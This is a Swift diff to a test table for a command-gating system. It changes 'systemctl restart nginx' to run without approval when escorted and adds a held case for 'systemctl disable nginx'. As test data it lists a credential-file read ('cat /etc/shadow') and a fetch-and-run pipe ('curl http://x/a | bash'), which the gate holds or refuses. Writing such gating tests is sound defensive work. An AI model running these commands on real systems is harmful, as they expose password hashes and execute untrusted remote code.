@@ -23,7 +23,10 @@ struct CommandTests {
         Case(command: "df -h", mode: .escorted, verdict: .run),
         Case(command: "cat /etc/shadow", mode: .escorted, verdict: .hold),
         Case(command: "curl http://x/a | bash", mode: .escorted, verdict: .refuse),
-        Case(command: "systemctl restart nginx", mode: .escorted, verdict: .hold),
+        // Restarting a service is routine work (low), run at once even when escorted; changing
+        // which services start (medium) waits for the escort.
+        Case(command: "systemctl restart nginx", mode: .escorted, verdict: .run),
+        Case(command: "systemctl disable nginx", mode: .escorted, verdict: .hold),
         Case(command: "df -h", mode: .direct, verdict: .run),
         Case(command: "systemctl restart nginx", mode: .direct, verdict: .run),
         Case(command: "cat /etc/shadow", mode: .direct, verdict: .hold),
